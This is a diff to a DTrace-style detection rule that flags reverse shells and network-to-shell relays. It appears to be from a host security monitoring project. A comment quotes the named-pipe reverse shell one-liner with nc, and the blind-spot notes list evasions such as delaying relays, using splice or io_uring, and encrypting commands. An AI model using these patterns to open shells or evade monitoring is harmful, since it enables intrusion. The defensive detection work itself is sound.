@@ -1,6 +1,6 @@
 /*---
 id: EXE-001
-version: 1.0.1
+version: 1.1.0
 title: Program with a network connection as its standard input and output
 status: stable
 severity: high
@@ -12,19 +12,24 @@ dedup: {key: [destination, port], for: 1h}
 why: >
   A shell whose standard input and output are a connection that its own side made takes its commands from the other end: a reverse shell.
   A connection that was accepted, and that more than two programs have so, is a shell that somebody connected to: a daemon and the program
-  of its service (git daemon, inetd with a wrapper) are two.
+  of its service (git daemon, inetd with a wrapper) are two. The same is done by a program between: what it receives it writes to a pipe,
+  terminal or unix socket that is another's standard input, and what that one answers it sends back. Or it starts a program for each
+  command that comes, and sends what that writes.
 triage:
   - Which program is it, who started it, and whose address is at the other end?
   - What did it start since? Its children have the same parent in the findings and in `culprit packets`.
 false_positives:
-  - inetd, xinetd and systemd's Accept=yes start a service with the accepted connection; one that starts two further
+  - inetd, xinetd and systemd's Accept=yes start a service with the accepted connection; one that reads it and starts two further
     programs with all of it is told
-  - programs that are made to run others on a connection of theirs, which is what this is about
+  - programs that are made to run others on a connection of theirs, which is what this is about (runners of build jobs, agents that
+    take commands from a server, telnetd)
 blind_spots:
-  - a relay between the connection and a shell's pipe, socket pair or terminal (mkfifo, pty.spawn, socat EXEC, ncat --exec); the shell has
-    no connection
-  - datagrams (bash's /dev/udp), and a terminal that ssh -R brings
-  - a shell that runs nothing but its built-in commands, or that reads the connection by another descriptor
+  - a relay that keeps what it receives before it passes it on (over 20 ms, or another thread's work), that moves it by splice(2), io_uring or
+    in several messages at once, or that starts programs for commands which come encrypted, or sends what they write in other pieces
+  - a relay of a connection that somebody made to it, when what it passes on is not as long as what it received (sshd's is not), or that is
+    asked no more than once, or runs fewer than three programs
+  - a terminal that ssh -R brings
+  - a shell that reads the connection by another descriptor and runs nothing but its built-in commands
   - a shell that somebody connected to, and that runs no more than one program
   - a connection from before the run
 references:
@@ -36,9 +41,32 @@ int outgoing[uintptr_t];
 int accepted[uintptr_t];
 int uses[uintptr_t];
 int own[uintptr_t];
+/* Who has the connection as its standard input, and by process which one that is. */
+pid_t reader[uintptr_t];
+uintptr_t reads[pid_t];
+/* By connection: how often one of its programs received something. */
+int orders[uintptr_t];
 int programs[uintptr_t];
 pid_t holder[uintptr_t];
 this int before;
+
+/* By channel (a pipe, a terminal, a unix socket): the first program that has it as its standard output, and what its standard input is then. */
+pid_t program[uintptr_t];
+string name[uintptr_t];
+uintptr_t input[uintptr_t];
+uintptr_t commanded[uintptr_t];
+/* ... and how many programs have had it so since. */
+int started[uintptr_t];
+int alive[pid_t];
+/* By channel: the connection that is passed on to it, and how often in turn with what came back. */
+uintptr_t fed[uintptr_t];
+uintptr_t answered[uintptr_t];
+int rounds[uintptr_t];
+/* By connection: the named pipe that it is passed on to. */
+uintptr_t named[uintptr_t];
+/* By process: the connection that it received from last, and when. */
+uintptr_t heard[pid_t];
+uint64_t heardAt[pid_t];
 
 /* Who made the connection: TCP_SYN_SENT is 2. */
 socket:::state-change
@@ -47,20 +75,50 @@ socket:::state-change
 	outgoing[args[0]->so_address] = 1;
 }
 
+/* A datagram socket that has one at its other end is a connection, too. */
+socket:::connect
+/args[0]->so_type == 2 && (args[0]->so_family == 2 || args[0]->so_family == 10)/
+{
+	outgoing[args[0]->so_address] = 1;
+}
+
+socket:::create
+/outgoing[args[0]->so_address]/
+{
+	outgoing[args[0]->so_address] = 0;
+	uses[args[0]->so_address] = 0;
+}
+
 socket:::accept
 /args[0]->so_family == 2 || args[0]->so_family == 10/
 {
 	accepted[args[0]->so_address] = 1;
 }
 
-/* Reading and writing by it, by any program of the shell: 1 and 2. A program that has one of both (git's helpers) is not counted. */
+/*
+ * Reading and writing by it, by any program of the shell: 1 and 2; who reads is there while others write. A program that has one of both (git's
+ * helpers) is not counted.
+ */
+socket:::inherited
+/(outgoing[args[0]->so_address] || accepted[args[0]->so_address]) && arg2 == 0/
+{
+	uses[args[0]->so_address] |= 1;
+	reader[args[0]->so_address] = pid;
+	reads[pid] = args[0]->so_address;
+}
+
+socket:::inherited
+/(outgoing[args[0]->so_address] || accepted[args[0]->so_address]) && arg2 != 0 && reads[reader[args[0]->so_address]] == args[0]->so_address/
+{
+	uses[args[0]->so_address] |= 2;
+}
+
 socket:::inherited
 /outgoing[args[0]->so_address] || accepted[args[0]->so_address]/
 {
-	uses[args[0]->so_address] |= arg2 == 0 ? 1 : 2;
 	this->before = holder[args[0]->so_address] == pid ? own[args[0]->so_address] : 0;
-	own[args[0]->so_address] = this->before | (arg2 == 0 ? 1 : 2);
-	programs[args[0]->so_address] += own[args[0]->so_address] == 3 && this->before != 3;
+	own[args[0]->so_address] = this->before | (arg2 == 0 ? 1 : arg2 == 1 ? 2 : 4);
+	programs[args[0]->so_address] += (own[args[0]->so_address] & 3) == 3 && (this->before & 3) != 3;
 	holder[args[0]->so_address] = pid;
 }
 
@@ -72,10 +130,135 @@ socket:::inherited
 }
 
 socket:::inherited
-/accepted[args[0]->so_address] && own[args[0]->so_address] == 3 && programs[args[0]->so_address] > 2/
+/accepted[args[0]->so_address] && (own[args[0]->so_address] & 3) == 3 && programs[args[0]->so_address] > 2 && orders[args[0]->so_address] > 0/
 {
 	finding("%s has the connection that %s made to port %d as its standard input and output, and two programs had it before",
 	    execname, args[0]->so_raddr, args[0]->so_lport);
+}
+
+/* A shell that has the connection by another descriptor reads a command, and runs it with its output and errors there. */
+socket:::inherited
+/outgoing[args[0]->so_address] && arg2 == 2 && own[args[0]->so_address] == 6 && holder[args[0]->so_address] == pid
+    && heard[ppid] == args[0]->so_address && timestamp - heardAt[ppid] < 1000000000/
+{
+	finding("%s has the connection to %s port %d, which was made from here, as its standard output, and was started when something had come",
+	    execname, args[0]->so_raddr, args[0]->so_rport);
+}
+
+socket:::receive
+/args[1] > 0 && accepted[args[0]->so_address] && reads[pid] == args[0]->so_address/
+{
+	orders[args[0]->so_address]++;
+}
+
+proc:::exit
+/reads[pid]/
+{
+	reads[pid] = 0;
+}
+
+socket:::receive
+/args[1] > 0 && outgoing[args[0]->so_address]/
+{
+	heard[pid] = args[0]->so_address;
+	heardAt[pid] = timestamp;
+}
+
+proc:::exec-success
+/args[2] != 0 && program[args[2]] != 0 && program[args[2]] != pid && alive[program[args[2]]]/
+{
+	started[args[2]]++;
+}
+
+proc:::exec-success
+/args[2] != 0 && (program[args[2]] == 0 || program[args[2]] == pid || !alive[program[args[2]]])/
+{
+	program[args[2]] = pid;
+	name[args[2]] = execname;
+	input[args[2]] = args[1];
+	started[args[2]] = 1;
+	commanded[args[2]] = heard[ppid] != 0 && timestamp - heardAt[ppid] < 1000000000 ? heard[ppid] : 0;
+	alive[pid] = 1;
+}
+
+proc:::exit
+/alive[pid]/
+{
+	alive[pid] = 0;
+}
+
+proc:::exit
+/heard[pid]/
+{
+	heard[pid] = 0;
+	heardAt[pid] = 0;
+}
+
+/* What a connection brought was written to a channel. */
+socket:::relayed
+/args[2] != 1/
+{
+	rounds[args[3]] = fed[args[3]] != args[0]->so_address || args[1] != args[4] ? 0 :
+	    rounds[args[3]] + (answered[args[3]] == args[0]->so_address);
+	fed[args[3]] = args[0]->so_address;
+	answered[args[3]] = 0;
+	named[args[0]->so_address] = args[2] == 2 ? args[3] : 0;
+}
+
+/* What a program wrote to a channel was sent. */
+socket:::relayed
+/args[2] == 1 && program[args[3]] != pid && input[args[3]] != 0 && fed[input[args[3]]] == args[0]->so_address/
+{
+	answered[input[args[3]]] = args[1] == args[4] ? args[0]->so_address : 0;
+}
+
+socket:::relayed
+/args[2] == 1 && named[args[0]->so_address] != 0/
+{
+	answered[named[args[0]->so_address]] = args[1] == args[4] ? args[0]->so_address : 0;
+}
+
+socket:::relayed
+/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && input[args[3]] != 0
+    && fed[input[args[3]]] == args[0]->so_address/
+{
+	finding("%s passes what %s port %d sends, on a connection that was made from here, to %s (process %d), and sends what that answers",
+	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]]);
+}
+
+socket:::relayed
+/args[2] == 1 && accepted[args[0]->so_address] && program[args[3]] != pid && input[args[3]] != 0
+    && answered[input[args[3]]] == args[0]->so_address && rounds[input[args[3]]] > 0 && started[args[3]] > 2/
+{
+	finding("%s passes what %s sends, on a connection that it made to port %d, to %s (process %d), and sends what that answers",
+	    execname, args[0]->so_raddr, args[0]->so_lport, name[args[3]], program[args[3]]);
+}
+
+/* `cat fifo | sh | nc ADDRESS PORT > fifo`: who reads the named pipe is not the shell, but who writes what the shell reads. */
+socket:::relayed
+/args[2] == 1 && outgoing[args[0]->so_address] && named[args[0]->so_address] != 0 && program[args[3]] != pid && input[args[3]] != 0
+    && input[args[3]] != named[args[0]->so_address] && program[input[args[3]]] != 0/
+{
+	finding("%s passes what %s port %d sends, on a connection that was made from here, to a named pipe, and sends what %s (process %d) answers to %s",
+	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]], name[input[args[3]]]);
+}
+
+socket:::relayed
+/args[2] == 1 && accepted[args[0]->so_address] && named[args[0]->so_address] != 0 && program[args[3]] != pid && input[args[3]] != 0
+    && input[args[3]] != named[args[0]->so_address] && program[input[args[3]]] != 0 && rounds[named[args[0]->so_address]] > 0
+    && started[args[3]] > 2/
+{
+	finding("%s passes what %s sends, on a connection that it made to port %d, to a named pipe, and sends what %s (process %d) answers to %s",
+	    execname, args[0]->so_raddr, args[0]->so_lport, name[args[3]], program[args[3]], name[input[args[3]]]);
+}
+
+/* A program was started when something had come, and all that is sent is what it wrote. */
+socket:::relayed
+/args[2] == 1 && outgoing[args[0]->so_address] && program[args[3]] != pid && commanded[args[3]] == args[0]->so_address
+    && args[1] == args[4]/
+{
+	finding("%s started %s (process %d) when %s port %d had sent something, on a connection that was made from here, and sends what that writes",
+	    execname, name[args[3]], program[args[3]], args[0]->so_raddr, args[0]->so_rport);
 }
 
 /* TCP_CLOSE is 7. */
@@ -83,8 +266,10 @@ socket:::state-change
 /arg2 == 7/
 {
 	outgoing[args[0]->so_address] = 0;
+	named[args[0]->so_address] = 0;
 	accepted[args[0]->so_address] = 0;
 	uses[args[0]->so_address] = 0;
+	orders[args[0]->so_address] = 0;
 	own[args[0]->so_address] = 0;
 	programs[args[0]->so_address] = 0;
 	holder[args[0]->so_address] = 0;
